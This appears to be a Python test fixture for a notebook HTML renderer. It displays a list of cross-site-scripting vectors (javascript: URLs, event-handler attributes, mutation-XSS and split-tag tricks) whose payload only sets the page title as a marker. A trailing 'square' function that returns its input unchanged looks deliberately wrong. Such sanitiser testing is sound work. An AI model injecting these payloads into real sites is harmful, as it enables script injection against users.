"""Ways to have HTML run, fetch, or lead somewhere."""
# points: 0 2

from IPython.display import HTML, Latex, Markdown, display

RUN = "document.title='THE_ATTACK_RAN'"
WAYS = (
    f"<a href=\"java\tscript:{RUN}\">3</a><a href=' javascript:{RUN}'>3</a><a href='data:text/html,<script>{RUN}</script>'>3</a>",
    f"<form action=\"javascript:{RUN}\"><input autofocus onfocus=\"{RUN}\"><button>3</button></form><details open ontoggle=\"{RUN}\">3</details>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\"><base href=\"javascript:{RUN}//\"><link rel=stylesheet href=//THE_ATTACK_RAN>",
    f"<iframe src=\"javascript:top.{RUN}\"></iframe><object data=\"javascript:{RUN}\"></object><embed src=\"javascript:{RUN}\">",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg><svg/onload={RUN}><svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript><video><source onerror=\"{RUN}\"></video>",
    f"<b style=\"background:url(//THE_ATTACK_RAN);cursor:url(//THE_ATTACK_RAN),auto\" onmouseover=\"{RUN}\">3</b>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt><style><script>{RUN}</script></style></scripT><script>{RUN}</script >",
)
for way in WAYS:
    display(HTML(way), Markdown(way), Latex(f"$\\href{{javascript:{RUN}}}{{3}}$ {way}"))


def square(x):
    return x
